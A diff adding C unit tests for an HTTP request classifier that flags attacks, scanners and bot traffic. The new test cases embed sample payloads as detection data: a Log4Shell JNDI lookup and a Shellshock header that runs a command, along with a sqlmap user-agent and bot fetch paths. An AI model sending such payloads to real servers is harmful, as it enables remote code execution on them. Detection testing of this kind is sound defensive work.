@@ -30,6 +30,26 @@ static void honest_requests_hold_nothing(void **state)
         assert_null(pattern(honest[i]));
 }
 
+static void headers_tell_orders_and_tools(void **state)
+{
+    (void)state;
+    assert_string_equal(pattern("POST /login HTTP/1.1\r\nUser-Agent: ${jndi:ldap://a/b}\r\n"), "command");
+    assert_string_equal(pattern("GET /cgi HTTP/1.1\r\nReferer: () { :;}; ping -c1 a\r\n"), "command");
+    assert_string_equal(pattern("GET /a HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.7\r\n"), "tool");
+    assert_null(pattern("GET /a HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (like sqlmap/)\r\n"));
+    assert_null(pattern("GET /a HTTP/1.1\r\nUser-Agent: sqlm"));
+    assert_null(pattern("GET /nikto HTTP/1.1\r\nHost: DirBuster\r\n"));
+}
+
+static void bots_are_named_by_what_they_fetch(void **state)
+{
+    (void)state;
+    assert_string_equal(pattern("POST /five/fre.php HTTP/1.0\r\n"), "bot");
+    assert_string_equal(pattern("GET /bins/a.mpsl HTTP/1.0\r\n"), "bot");
+    assert_null(pattern("GET /a.mpslx HTTP/1.0\r\n"));
+    assert_null(pattern("GET /gateway.php HTTP/1.1\r\n"));
+}
+
 static void attacks_are_named_also_when_encoded_twice(void **state)
 {
     (void)state;
@@ -79,6 +99,8 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(an_answer_that_nothing_is_there_is_known_by_its_status),
         cmocka_unit_test(honest_requests_hold_nothing),
+        cmocka_unit_test(headers_tell_orders_and_tools),
+        cmocka_unit_test(bots_are_named_by_what_they_fetch),
         cmocka_unit_test(attacks_are_named_also_when_encoded_twice),
         cmocka_unit_test(every_cut_of_a_request_is_safe),
     };
